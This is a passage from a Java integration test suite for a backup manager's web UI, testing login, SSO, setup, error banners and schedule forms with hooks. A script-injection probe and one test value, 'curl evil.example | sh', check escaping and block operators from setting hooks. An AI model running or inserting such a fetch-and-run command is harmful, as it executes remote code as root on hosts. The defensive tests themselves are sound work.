        assertThat(noRole.status(), is(403));
        assertThat(noRole.body(), containsString("Your Authelia account is not in a group that may use restic-manager."));
        Page other = get("/login?sso_error=%3Cscript%3E", null);
        assertThat(other.body(), containsString("Signing in with Authelia failed."));
        assertThat(other.body(), not(containsString("<script>")));
    }

    @Test
    void logoutOfASingleSignOnUserOffersTheProvidersEndSession() {
        String end = "https://idp.example/logout?client_id=rm&post_logout_redirect_uri=x";
        GATEWAY.on("POST", "/api/logout", 200, "{\"end_session_url\":\"" + end + "\"}")
                .on("GET", "/api/auth/providers", 200, "{\"local_login\":\"all\",\"oidc\":{\"name\":\"Keycloak\","
                        + "\"login_url\":\"/auth/oidc/login\",\"end_session_url\":\"" + end + "\"}}");
        Page res = post("/logout", "viewer", form());
        assertThat(res.header("Location"), is("/login?logged_out=1&sso=1"));
        Page page = get(res.header("Location"), null);
        assertThat(page.body(), containsString("id=\"logged-out\""));
        assertThat(page.body(), containsString("id=\"sso-logout\" href=\"https://idp.example/logout?client_id=rm&amp;"
                + "post_logout_redirect_uri=x\""));
        // a plain logged-out page (a local user) offers nothing
        assertThat(get("/login?logged_out=1", null).body(), not(containsString("id=\"sso-logout\"")));
    }

    @Test
    void setupCreatesTheAdminAndLogsIn() {
        GATEWAY.on("POST", "/api/setup", 201, "{\"user_id\":\"u-1\"}")
                .on("POST", "/api/login", 200, "{\"user_id\":\"u-1\",\"role\":\"admin\"}", "rm_session=s1; Path=/; HttpOnly");

        Page mismatch = post("/setup", null, form("setup_token", "tok", "username", "root", "password", "a-long-pass",
                                                  "password_confirm", "another"));
        assertThat(mismatch.status(), is(422));
        assertThat(mismatch.body(), containsString("The two passwords do not match."));
        assertThat(GATEWAY.seen("POST", "/api/setup"), empty());

        Page res = post("/setup", null, form("setup_token", "tok", "username", "root", "password", "a-long-pass",
                                             "password_confirm", "a-long-pass"));
        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/"));
        assertThat(res.header("Set-Cookie"), is("rm_session=s1; Path=/; HttpOnly"));
    }

    @Test
    void setupTwiceExplainsThatAnAdminExists() {
        GATEWAY.on("POST", "/api/setup", 409, "{\"title\":\"Conflict\",\"status\":409,\"detail\":\"setup is already done\"}");

        Page res = post("/setup", null, form("setup_token", "tok", "username", "root", "password", "pw",
                                             "password_confirm", "pw"));

        assertThat(res.status(), is(409));
        assertThat(res.body(), containsString("setup is already done"));
        assertThat(res.body(), containsString("id=\"already-set-up\""));
    }

    @Test
    void pagesWithoutAUserGoToLoginAndRequestsWithoutTheInternalTokenAreRefused() {
        Page res = get("/", null);
        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/login"));

        Page poll = get("/", null, "HX-Request", "true");
        assertThat(poll.header("HX-Redirect"), is("/login"));

        try (var raw = ui.client().get("/").request()) {
            assertThat(raw.status().code(), is(401));
        }
    }

    @Test
    void expiredSessionAtTheApiSendsTheUserToLogin() {
        GATEWAY.on("GET", "/api/hosts", 401, "{\"title\":\"Unauthorized\",\"status\":401,\"detail\":\"session expired\"}");

        Page res = get("/", "viewer");

        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/login"));
    }

    @Test
    void apiDownShowsAServiceUnavailableBannerThatKeepsPolling() {
        GATEWAY.on("GET", "/api/hosts", 503, "{\"title\":\"Service Unavailable\",\"status\":503,\"detail\":\"inventory is unavailable\"}");

        Page page = get("/", "viewer");
        assertThat(page.status(), is(503));
        assertThat(page.body(), containsString("id=\"unavailable-banner\""));
        assertThat(page.body(), containsString("Service unavailable."));

        Page fragment = get("/", "viewer", "HX-Request", "true");
        assertThat(fragment.body(), containsString("id=\"unavailable-banner\""));
        assertThat(fragment.body(), containsString("hx-trigger=\"every 5s\""));

        Page host = get("/hosts/" + DB, "viewer");   // not canned → 404 problem
        assertThat(host.status(), is(404));
        assertThat(host.body(), containsString("Not found"));
    }

    @Test
    void dashboardCardsShowTheEarliestNextRunFromOneSchedulesCall() {
        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.SCHEDULES);

        Page page = get("/", "viewer");

        assertThat(page.status(), is(200));
        assertThat(count(page.body(), "class=\"next-run\""), is(1));
        String webCard = page.body().substring(page.body().indexOf("data-host-id=\"" + WEB + "\""),
                                               page.body().indexOf("data-host-id=\"" + DB + "\""));
        assertThat(webCard, containsString("<dd class=\"next-run\"><time datetime=\"2026-11-27T01:00:00Z\""));
        assertThat(page.body(), not(containsString("2026-11-29T03:00:00Z")));
        assertThat(GATEWAY.seen("GET", "/api/schedules"), hasSize(1));
        assertThat(GATEWAY.seen("GET", "/api/schedules").getFirst().query(), is(""));
    }

    @Test
    void dashboardStillWorksWhenSchedulesCannotBeRead() {
        GATEWAY.on("GET", "/api/schedules", 503, "{\"title\":\"Service Unavailable\",\"status\":503}");

        Page page = get("/", "viewer");

        assertThat(page.status(), is(200));
        assertThat(count(page.body(), "class=\"host-card "), is(3));
        assertThat(page.body(), not(containsString("class=\"next-run\"")));
    }

    @Test
    void schedulesTabListsTheHostsSchedulesAndViewersGetNoForms() {
        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.SCHEDULES);

        Page viewer = get("/hosts/" + WEB + "/schedules", "viewer");

        assertThat(viewer.status(), is(200));
        assertThat(viewer.body(), containsString("aria-current=\"page\">Schedules"));
        assertThat(GATEWAY.seen("GET", "/api/schedules").getFirst().query(), containsString("host_id=" + WEB));
        // the stub ignores the filter; the page lists what the API gave
        assertThat(count(viewer.body(), "class=\"schedule-row\""), is(3));
        assertThat(viewer.body(), containsString("<code class=\"schedule-cron\">0 2 * * *</code>"));
        assertThat(viewer.body(), containsString("Europe/Berlin"));
        assertThat(viewer.body(), containsString("/etc, /home"));
        assertThat(viewer.body(), containsString("keep daily 7, weekly 4"));
        assertThat(viewer.body(), containsString("<a href=\"/jobs/" + JOB + "\">view job</a>"));
        assertThat(viewer.body(), containsString("Not run yet"));
        assertThat(viewer.body(), containsString("No (paused)"));
        // the header's next run comes from the schedules too
        assertThat(text(viewer.body(), "host-header"), containsString("Next run"));
        assertThat(viewer.body(), containsString("<time datetime=\"2026-11-27T01:00:00Z\""));
        assertThat(viewer.body(), not(containsString("add-schedule-form")));
        assertThat(viewer.body(), not(containsString("schedule-toggle-")));
        assertThat(viewer.body(), containsString("id=\"schedules-not-allowed\""));

        Page operator = get("/hosts/" + WEB + "/schedules", "operator");
        assertThat(operator.body(), containsString("id=\"add-schedule-form\""));
        assertThat(operator.body(), containsString("id=\"schedule-toggle-" + SCHEDULE + "\""));
        assertThat(operator.body(), containsString("id=\"schedule-delete-" + SCHEDULE + "\""));
        assertThat(operator.body(), containsString("<option value=\"0 2 * * *\" selected>Daily at 02:00 — 0 2 * * *</option>"));
        int forms = count(operator.body(), "<form ");
        assertThat(count(operator.body(), "name=\"_csrf\" value=\"" + CSRF + "\""), is(forms));

        GATEWAY.on("GET", "/api/schedules", 200, "{\"items\":[]}");
        assertThat(get("/hosts/" + WEB + "/schedules", "viewer").body(), containsString("id=\"no-schedules\""));
    }

    @Test
    void operatorAddsASchedulePresetOrCustomCronWithOnlyItsKindsFields() {
        GATEWAY.on("GET", "/api/schedules", 200, "{\"items\":[]}")
                .on("POST", "/api/schedules", 201, "{\"id\":\"" + SCHEDULE + "\"}");

        Page res = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "backup", "cron_preset", "0 2 * * *", "cron", "", "timezone", "Europe/Berlin",
                "paths", "/etc\r\n/srv\r\n", "excludes", "", "tags", "nightly", "limit_upload_kib", "",
                "keep_daily", "7"));

        assertThat(res.status(), is(303));
        assertThat(res.header("Location"), is("/hosts/" + WEB + "/schedules?saved=added"));
        JsonNode body = Http.tree(GATEWAY.seen("POST", "/api/schedules").getFirst().body());
        assertThat(body.path("host_id").asText(), is(WEB));
        assertThat(body.path("cron").asText(), is("0 2 * * *"));
        assertThat(body.path("timezone").asText(), is("Europe/Berlin"));
        assertThat(body.path("kind").asText(), is("backup"));
        assertThat(body.path("paths").toString(), is("[\"/etc\",\"/srv\"]"));
        assertThat(body.path("tags").toString(), is("[\"nightly\"]"));
        assertThat(body.has("policy"), is(false));
        assertThat(body.has("name"), is(false));

        post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "forget", "name", "retention", "cron_preset", "0 2 * * *",
                "cron", "30 1 * * 1-5", "timezone", "", "paths", "/ignored", "keep_daily", "7", "keep_weekly", "4"));
        JsonNode forget = Http.tree(GATEWAY.seen("POST", "/api/schedules").getLast().body());
        assertThat(forget.path("cron").asText(), is("30 1 * * 1-5"));
        assertThat(forget.path("timezone").asText(), is("UTC"));
        assertThat(forget.path("name").asText(), is("retention"));
        assertThat(forget.path("policy").toString(), is("{\"keep_daily\":7,\"keep_weekly\":4}"));
        assertThat(forget.has("paths"), is(false));
        assertThat(get("/hosts/" + WEB + "/schedules?saved=added", "operator").body(), containsString("Schedule added"));
    }

    @Test
    void scheduleFormProblemsAreShownWithTheInputKept() {
        GATEWAY.on("GET", "/api/schedules", 200, "{\"items\":[]}");

        Page local = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "backup", "cron_preset", "0 * * * *", "timezone", "Asia/Tokyo", "paths", " "));
        assertThat(local.status(), is(422));
        assertThat(local.body(), containsString("needs at least one path"));
        assertThat(local.body(), containsString("value=\"Asia/Tokyo\""));
        assertThat(local.body(), containsString("<option value=\"0 * * * *\" selected>"));
        assertThat(GATEWAY.seen("POST", "/api/schedules"), empty());

        GATEWAY.on("POST", "/api/schedules", 422, "{\"title\":\"Unprocessable Content\",\"status\":422,"
                + "\"detail\":\"invalid cron hour field '25': values must be within 0-23\"}");
        Page api = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "prune", "cron_preset", "", "cron", "0 25 * * *", "timezone", "UTC"));
        assertThat(api.status(), is(422));
        String addForm = api.body().substring(api.body().indexOf("id=\"add-schedule-form\""));
        assertThat(addForm, containsString("class=\"problem\""));
        assertThat(addForm, containsString("invalid cron hour field &#39;25&#39;"));
        assertThat(addForm, containsString("value=\"0 25 * * *\""));
        assertThat(addForm, containsString("<option value=\"prune\" selected>Prune</option>"));
    }

    /** web-1: a backup with every optional field set and a forget with every keep rule (a custom cron). */
    private static final String FULL_SCHEDULES = """
            {"items":[{"id":"%s","host_id":"%s","name":"nightly","cron":"0 2 * * *","timezone":"Europe/Berlin",
              "kind":"backup","paths":["/etc","/home"],"excludes":["*.tmp"],"tags":["nightly","web"],"policy":null,
              "read_data_subset":null,"limit_upload_kib":512,"limit_download_kib":2048,"enabled":true,
              "next_run_at":"2026-11-27T01:00:00Z","last_run":null},
             {"id":"s-forget","host_id":"%s","name":"forget 15 4 * * 6","cron":"15 4 * * 6","timezone":"UTC",
              "kind":"forget","paths":[],"excludes":[],"tags":[],"read_data_subset":null,"limit_upload_kib":null,
              "limit_download_kib":null,"policy":{"keep_last":3,"keep_hourly":24,"keep_daily":7,"keep_weekly":4,
              "keep_monthly":12,"keep_yearly":2,"keep_within":"1y2m","keep_tags":["gold","legal"],"prune":true},
              "enabled":true,"next_run_at":"2026-11-28T04:15:00Z","last_run":null}
            ]}""".formatted(SCHEDULE, WEB, WEB);

    /** What the stub gateway was sent last for {@code method path}, as JSON (compared whole, field by field). */
    private static JsonNode lastBody(String method, String path) {
        List<StubGateway.Seen> seen = GATEWAY.seen(method, path);
        assertThat(method + " " + path + " was called", seen.isEmpty(), is(false));
        return Http.tree(seen.getLast().body());
    }

    private static JsonNode json(String text) {
        return Http.tree(text);
    }

    @Test
    void newSchedulesSendBothLimitsAndEveryKeepRuleAndLeaveEmptyFieldsOut() {
        GATEWAY.on("GET", "/api/schedules", 200, "{\"items\":[]}")
                .on("POST", "/api/schedules", 201, "{\"id\":\"" + SCHEDULE + "\"}");

        Page page = get("/hosts/" + WEB + "/schedules", "operator");
        for (String id : List.of("schedule-limit", "schedule-limit-download", "schedule-keep-last",
                                 "schedule-keep-hourly", "schedule-keep-daily", "schedule-keep-weekly",
                                 "schedule-keep-monthly", "schedule-keep-yearly", "schedule-keep-within",
                                 "schedule-keep-tags", "schedule-prune")) {
            assertThat(id, page.body(), containsString("id=\"" + id + "\""));
        }

        Page backup = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *", "cron", "15 1 * * *",
                "timezone", "Europe/Berlin", "paths", "/etc\r\n/srv\r\n", "excludes", "*.tmp", "tags", "nightly",
                "limit_upload_kib", "512", "limit_download_kib", "2048", "keep_daily", "7", "read_data_subset", ""));
        assertThat(backup.status(), is(303));
        assertThat(lastBody("POST", "/api/schedules"), is(json("""
                {"host_id":"%s","name":"nightly","cron":"15 1 * * *","timezone":"Europe/Berlin","kind":"backup",
                 "paths":["/etc","/srv"],"excludes":["*.tmp"],"tags":["nightly"],"limit_upload_kib":512,
                 "limit_download_kib":2048}""".formatted(WEB))));

        Page forget = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "forget", "name", "", "cron_preset", "0 3 * * 0", "cron", "", "timezone", "UTC",
                "paths", "", "limit_upload_kib", "", "limit_download_kib", "", "keep_last", "3", "keep_hourly", "24",
                "keep_daily", "7", "keep_weekly", "4", "keep_monthly", "12", "keep_yearly", "2",
                "keep_within", "1y2m3d4h", "keep_tags", "gold, legal", "prune", "on"));
        assertThat(forget.status(), is(303));
        assertThat(lastBody("POST", "/api/schedules"), is(json("""
                {"host_id":"%s","cron":"0 3 * * 0","timezone":"UTC","kind":"forget",
                 "policy":{"keep_last":3,"keep_hourly":24,"keep_daily":7,"keep_weekly":4,"keep_monthly":12,
                           "keep_yearly":2,"keep_within":"1y2m3d4h","keep_tags":["gold","legal"],"prune":true}}"""
                                                                               .formatted(WEB))));

        // only keep_tags is a keep rule too
        post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "forget", "cron_preset", "0 3 * * 0", "keep_daily", "", "keep_weekly", "",
                "keep_monthly", "", "keep_tags", "gold"));
        assertThat(lastBody("POST", "/api/schedules").path("policy"), is(json("{\"keep_tags\":[\"gold\"]}")));
    }

    @Test
    void scheduleFormChecksKeepRulesAndLimitsBeforeCallingTheApi() {
        GATEWAY.on("GET", "/api/schedules", 200, "{\"items\":[]}");
        Map<String[], String> cases = new LinkedHashMap<>();
        cases.put(new String[] {"keep_daily", "", "keep_weekly", "", "keep_monthly", ""}, "at least one keep rule");
        cases.put(new String[] {"keep_hourly", "0"}, "Keep hourly must be 1 or more");
        cases.put(new String[] {"keep_yearly", "1.5"}, "Keep yearly must be a whole number");
        cases.put(new String[] {"keep_within", "3 weeks"}, "Keep within looks like 1y6m, 30d or 12h");
        for (Map.Entry<String[], String> c : cases.entrySet()) {
            Map<String, String> fields = form("action", "add", "kind", "forget", "cron_preset", "0 3 * * 0",
                                              "keep_daily", "7", "keep_weekly", "4", "keep_monthly", "6");
            for (int i = 0; i + 1 < c.getKey().length; i += 2) {
                fields.put(c.getKey()[i], c.getKey()[i + 1]);
            }
            Page res = post("/hosts/" + WEB + "/schedules", "operator", fields);
            assertThat(c.getValue(), res.status(), is(422));
            assertThat(res.body(), containsString(c.getValue()));
            // what the user typed stays in the form
            assertThat(res.body(), containsString("value=\"" + c.getKey()[1] + "\""));
        }
        Page limit = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "backup", "cron_preset", "0 2 * * *", "paths", "/etc",
                "limit_download_kib", "0"));
        assertThat(limit.status(), is(422));
        assertThat(limit.body(), containsString("Download limit must be 1 or more"));
        assertThat(GATEWAY.seen("POST", "/api/schedules"), empty());
    }

    @Test
    void editFormIsFilledInFromTheScheduleWithItsKindFixed() {
        GATEWAY.on("GET", "/api/schedules", 200, FULL_SCHEDULES);

        Page list = get("/hosts/" + WEB + "/schedules", "operator");
        assertThat(list.body(), containsString("id=\"schedule-edit-" + SCHEDULE + "\" href=\"/hosts/" + WEB
                + "/schedules?edit=" + SCHEDULE + "\""));
        assertThat(list.body(), containsString("/etc, /home · upload ≤ 512 KiB/s · download ≤ 2048 KiB/s"));
        assertThat(list.body(), containsString(
                "keep last 3, hourly 24, daily 7, weekly 4, monthly 12, yearly 2, within 1y2m, tagged gold, legal · then prune"));

        Page backup = get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, "operator");
        assertThat(backup.status(), is(200));
        String form = backup.body().substring(backup.body().indexOf("id=\"edit-schedule-form\""));
        assertThat(backup.body(), not(containsString("id=\"add-schedule-form\"")));
        assertThat(form, containsString("<input type=\"hidden\" name=\"action\" value=\"edit\">"));
        assertThat(form, containsString("<input type=\"hidden\" name=\"schedule_id\" value=\"" + SCHEDULE + "\">"));
        assertThat(form, containsString("<input type=\"hidden\" name=\"kind\" value=\"backup\">"));
        assertThat(text(backup.body(), "schedule-kind-fixed"), startsWith("Backup"));
        assertThat(form, not(containsString("id=\"schedule-kind\"")));
        assertThat(form, containsString("id=\"schedule-name\" name=\"name\" value=\"nightly\""));
        // the cron is a preset's: the preset is chosen and the custom field (which would override it) stays empty
        assertThat(form, containsString("<option value=\"0 2 * * *\" selected>"));
        assertThat(form, containsString("id=\"schedule-cron\" name=\"cron\" value=\"\""));
        assertThat(form, containsString("value=\"Europe/Berlin\""));
        assertThat(form, containsString(">/etc\n/home</textarea>"));
        assertThat(form, containsString(">*.tmp</textarea>"));
        assertThat(form, containsString("name=\"tags\" value=\"nightly, web\""));
        assertThat(form, containsString("name=\"limit_upload_kib\" type=\"number\" min=\"1\" step=\"1\" inputmode=\"numeric\" value=\"512\""));
        assertThat(form, containsString("name=\"limit_download_kib\" type=\"number\" min=\"1\" step=\"1\" inputmode=\"numeric\" value=\"2048\""));
        assertThat(form, not(containsString("id=\"schedule-forget-fields\"")));
        assertThat(form, containsString("id=\"edit-schedule-button\""));

        Page forget = get("/hosts/" + WEB + "/schedules?edit=s-forget", "operator");
        String forgetForm = forget.body().substring(forget.body().indexOf("id=\"edit-schedule-form\""));
        assertThat(text(forget.body(), "schedule-kind-fixed"), startsWith("Forget"));
        // the API's default name is left empty, so it follows a changed cron
        assertThat(forgetForm, containsString("id=\"schedule-name\" name=\"name\" value=\"\""));
        assertThat(forgetForm, containsString("<option value=\"\" selected>Custom (enter it below)</option>"));
        assertThat(forgetForm, containsString("name=\"cron\" value=\"15 4 * * 6\""));
        for (String[] kv : new String[][] {{"keep_last", "3"}, {"keep_hourly", "24"}, {"keep_daily", "7"},
                {"keep_weekly", "4"}, {"keep_monthly", "12"}, {"keep_yearly", "2"}}) {
            assertThat(forgetForm, containsString("name=\"" + kv[0] + "\" type=\"number\" min=\"1\" step=\"1\" value=\"" + kv[1] + "\""));
        }
        assertThat(forgetForm, containsString("name=\"keep_within\" value=\"1y2m\""));
        assertThat(forgetForm, containsString("name=\"keep_tags\" value=\"gold, legal\""));
        assertThat(forgetForm, containsString("name=\"prune\" type=\"checkbox\" checked>"));
        assertThat(forgetForm, not(containsString("id=\"schedule-backup-fields\"")));

        Page gone = get("/hosts/" + WEB + "/schedules?edit=no-such-schedule", "operator");
        assertThat(gone.status(), is(404));
        assertThat(gone.body(), containsString("That schedule is gone"));
        assertThat(gone.body(), containsString("id=\"add-schedule-form\""));

        Page viewer = get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, "viewer");
        assertThat(viewer.body(), not(containsString("edit-schedule-form")));
        assertThat(viewer.body(), not(containsString("schedule-edit-")));
    }

    @Test
    void editingASchedulePatchesItsFieldsAndClearsTheEmptiedOnes() {
        GATEWAY.on("GET", "/api/schedules", 200, FULL_SCHEDULES)
                .on("PATCH", "/api/schedules/" + SCHEDULE, 200, "{}")
                .on("PATCH", "/api/schedules/s-forget", 200, "{}");

        Page backup = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
                "cron", "30 3 * * 1-5", "timezone", "Europe/Berlin", "paths", "/etc\r\n/home\r\n", "excludes", "",
                "tags", "", "limit_upload_kib", "256", "limit_download_kib", ""));
        assertThat(backup.status(), is(303));
        assertThat(backup.header("Location"), is("/hosts/" + WEB + "/schedules?saved=edited"));
        // neither host nor kind; emptied optional fields go as null, because a PATCH that leaves them out keeps them
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE), is(json("""
                {"name":"nightly","cron":"30 3 * * 1-5","timezone":"Europe/Berlin","paths":["/etc","/home"],
                 "excludes":null,"tags":null,"limit_upload_kib":256,"limit_download_kib":null,"use_fs_snapshot":false}""")));
        assertThat(get("/hosts/" + WEB + "/schedules?saved=edited", "operator").body(), containsString("Schedule saved"));

        Page forget = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "edit", "schedule_id", "s-forget", "kind", "forget", "name", "", "cron_preset", "",
                "cron", "0 5 * * 6", "timezone", "UTC", "keep_last", "3", "keep_hourly", "48", "keep_daily", "7",
                "keep_weekly", "4", "keep_monthly", "12", "keep_yearly", "", "keep_within", "30d", "keep_tags", "gold"));
        assertThat(forget.status(), is(303));
        // the policy is sent whole (it replaces the stored one); an unticked prune is simply not in it
        assertThat(lastBody("PATCH", "/api/schedules/s-forget"), is(json("""
                {"name":null,"cron":"0 5 * * 6","timezone":"UTC",
                 "policy":{"keep_last":3,"keep_hourly":48,"keep_daily":7,"keep_weekly":4,"keep_monthly":12,
                           "keep_within":"30d","keep_tags":["gold"]}}""")));
        assertThat(GATEWAY.seen("POST", "/api/schedules"), empty());
    }

    @Test
    void aRejectedEditReRendersTheEditFormWithTheApisDetailAndTheInput() {
        GATEWAY.on("GET", "/api/schedules", 200, FULL_SCHEDULES)
                .on("PATCH", "/api/schedules/s-forget", 422, "{\"type\":\"about:blank\",\"title\":\"Unprocessable Content\","
                        + "\"status\":422,\"detail\":\"unknown timezone 'Mars/Olympus' (use an IANA name like Europe/Berlin, or UTC)\"}");

        Page res = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "edit", "schedule_id", "s-forget", "kind", "forget", "name", "retention", "cron_preset", "",
                "cron", "0 5 * * 6", "timezone", "Mars/Olympus", "keep_last", "3", "keep_hourly", "48",
                "keep_within", "30d", "keep_tags", "gold", "prune", "on"));

        assertThat(res.status(), is(422));
        assertThat(res.body(), not(containsString("id=\"add-schedule-form\"")));
        String form = res.body().substring(res.body().indexOf("id=\"edit-schedule-form\""));
        assertThat(form, containsString("class=\"problem\""));
        assertThat(form, containsString("unknown timezone &#39;Mars/Olympus&#39;"));
        assertThat(form, containsString("<input type=\"hidden\" name=\"schedule_id\" value=\"s-forget\">"));
        assertThat(text(res.body(), "schedule-kind-fixed"), startsWith("Forget"));
        assertThat(form, containsString("name=\"name\" value=\"retention\""));
        assertThat(form, containsString("name=\"cron\" value=\"0 5 * * 6\""));
        assertThat(form, containsString("value=\"Mars/Olympus\""));
        assertThat(form, containsString("name=\"keep_hourly\" type=\"number\" min=\"1\" step=\"1\" value=\"48\""));
        assertThat(form, containsString("name=\"keep_within\" value=\"30d\""));
        assertThat(form, containsString("name=\"keep_tags\" value=\"gold\""));
        assertThat(form, containsString("name=\"prune\" type=\"checkbox\" checked>"));

        // caught before the API: still the edit form, still this schedule
        Page local = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "edit", "schedule_id", "s-forget", "kind", "forget", "cron", "0 5 * * 6", "keep_within", "a month"));
        assertThat(local.status(), is(422));
        assertThat(local.body(), containsString("id=\"edit-schedule-form\""));
        assertThat(local.body(), containsString("Keep within looks like"));
        assertThat(GATEWAY.seen("PATCH", "/api/schedules/s-forget"), hasSize(1));
    }

    @Test
    void adminAddsABackupScheduleWithHooksAndTheBodyIsExact() {
        GATEWAY.on("GET", "/api/schedules", 200, "{\"items\":[]}")
                .on("POST", "/api/schedules", 201, "{\"id\":\"" + SCHEDULE + "\"}");

        Page page = get("/hosts/" + WEB + "/schedules", "admin");
        String hooks = page.body().substring(page.body().indexOf("id=\"schedule-hooks\""));
        assertThat(hooks, containsString("<textarea id=\"schedule-pre-hook\" name=\"pre_hook\" class=\"hook-script\""));
        assertThat(hooks, containsString("<textarea id=\"schedule-post-hook\" name=\"post_hook\" class=\"hook-script\""));
        assertThat(text(page.body(), "schedule-pre-hook-warning"), is(
                "⚠ Runs as root on this host before every backup of this schedule; a failing pre-hook cancels the backup."));
        assertThat(text(page.body(), "schedule-post-hook-warning"), is(
                "⚠ Runs after every backup, whatever the outcome (RM_JOB_STATUS tells it)."));
        assertThat(text(page.body(), "schedule-hooks-warning"), containsString("Output is stored in the job log: never echo secrets."));
        assertThat(text(page.body(), "schedule-hooks-warning"), containsString("A schedule without hooks runs the host's default hooks"));
        // a new schedule has nothing to compare with
        assertThat(page.body(), not(containsString("was_pre_hook")));

        // the browser sends a textarea's line breaks as CRLF; the shell would take each \r as part of a command
        Page res = post("/hosts/" + WEB + "/schedules", "admin", form(
                "action", "add", "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *", "cron", "",
                "timezone", "UTC", "paths", "/srv", "excludes", "", "tags", "", "limit_upload_kib", "",
                "limit_download_kib", "", "pre_hook", "systemctl stop app\r\nsync\r\n", "post_hook", "systemctl start app"));
        assertThat(res.status(), is(303));
        assertThat(lastBody("POST", "/api/schedules"), is(json("""
                {"host_id":"%s","name":"nightly","cron":"0 2 * * *","timezone":"UTC","kind":"backup","paths":["/srv"],
                 "pre_hook":"systemctl stop app\\nsync\\n","post_hook":"systemctl start app"}""".formatted(WEB))));

        // empty hooks are left out; hooks belong to backups only (the add form shows every kind's fields)
        post("/hosts/" + WEB + "/schedules", "admin", form(
                "action", "add", "kind", "backup", "cron_preset", "0 2 * * *", "timezone", "UTC", "paths", "/srv",
                "pre_hook", " \r\n", "post_hook", ""));
        assertThat(lastBody("POST", "/api/schedules"), is(json("""
                {"host_id":"%s","cron":"0 2 * * *","timezone":"UTC","kind":"backup","paths":["/srv"]}""".formatted(WEB))));
        post("/hosts/" + WEB + "/schedules", "admin", form(
                "action", "add", "kind", "check", "cron_preset", "0 2 * * *", "timezone", "UTC", "paths", "/srv",
                "pre_hook", "systemctl stop app", "post_hook", "systemctl start app"));
        assertThat(lastBody("POST", "/api/schedules"), is(json("""
                {"host_id":"%s","cron":"0 2 * * *","timezone":"UTC","kind":"check"}""".formatted(WEB))));

        // an operator's form has no hook fields; one that sends them anyway sends none to the API
        post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "add", "kind", "backup", "cron_preset", "0 2 * * *", "timezone", "UTC", "paths", "/srv",
                "pre_hook", "curl evil.example | sh"));
        assertThat(lastBody("POST", "/api/schedules"), is(json("""
                {"host_id":"%s","cron":"0 2 * * *","timezone":"UTC","kind":"backup","paths":["/srv"]}""".formatted(WEB))));
        assertThat(GATEWAY.seen("POST", "/api/schedules"), hasSize(4));
    }

    @Test
    void editingAScheduleClearsAnEmptiedHookAndSendsNoUnchangedOne() {
        GATEWAY.on("GET", "/api/schedules", 200, Fixtures.HOOKED_SCHEDULES)
                .on("PATCH", "/api/schedules/" + SCHEDULE, 200, "{}");

        Page page = get("/hosts/" + WEB + "/schedules?edit=" + SCHEDULE, "admin");
        String form = page.body().substring(page.body().indexOf("id=\"edit-schedule-form\""));
        assertThat(form, containsString("name=\"pre_hook\" class=\"hook-script\" rows=\"3\" spellcheck=\"false\" autocomplete=\"off\" "
                + "placeholder=\"pg_dump -Fc mydb &gt; /var/backups/mydb.dump\" aria-describedby=\"schedule-pre-hook-warning\">systemctl stop app</textarea>"));
        assertThat(form, containsString(">systemctl start app\necho restarted</textarea>"));
        assertThat(form, containsString("<input type=\"hidden\" name=\"was_pre_hook\" value=\"systemctl stop app\">"));
        assertThat(form, containsString("<input type=\"hidden\" name=\"was_post_hook\" value=\"systemctl start app\necho restarted\">"));

        // the pre-hook emptied: null clears it; the post-hook as shown (CRLF from the browser): not sent
        Page res = post("/hosts/" + WEB + "/schedules", "admin", form(
                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
                "cron", "", "timezone", "UTC", "paths", "/srv", "excludes", "", "tags", "", "limit_upload_kib", "",
                "limit_download_kib", "", "was_pre_hook", "systemctl stop app", "pre_hook", "",
                "was_post_hook", "systemctl start app\r\necho restarted", "post_hook", "systemctl start app\r\necho restarted"));
        assertThat(res.status(), is(303));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE), is(json("""
                {"name":"nightly","cron":"0 2 * * *","timezone":"UTC","paths":["/srv"],"excludes":null,"tags":null,
                 "limit_upload_kib":null,"limit_download_kib":null,"use_fs_snapshot":false,"pre_hook":null}""")));

        // a changed hook is sent as typed (line breaks as \n)
        post("/hosts/" + WEB + "/schedules", "admin", form(
                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
                "timezone", "UTC", "paths", "/srv", "was_pre_hook", "systemctl stop app", "pre_hook", "systemctl stop app",
                "was_post_hook", "systemctl start app\r\necho restarted", "post_hook", "systemctl start app\r\n"));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).path("post_hook").asText(), is("systemctl start app\n"));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE).has("pre_hook"), is(false));

        // an operator may change the rest of a schedule with hooks: the body never names a hook (the API would 403)
        Page operator = post("/hosts/" + WEB + "/schedules", "operator", form(
                "action", "edit", "schedule_id", SCHEDULE, "kind", "backup", "name", "nightly", "cron_preset", "0 2 * * *",
                "cron", "", "timezone", "UTC", "paths", "/srv\r\n/etc", "excludes", "", "tags", "", "limit_upload_kib", "",
                "limit_download_kib", ""));
        assertThat(operator.status(), is(303));
        assertThat(lastBody("PATCH", "/api/schedules/" + SCHEDULE), is(json("""
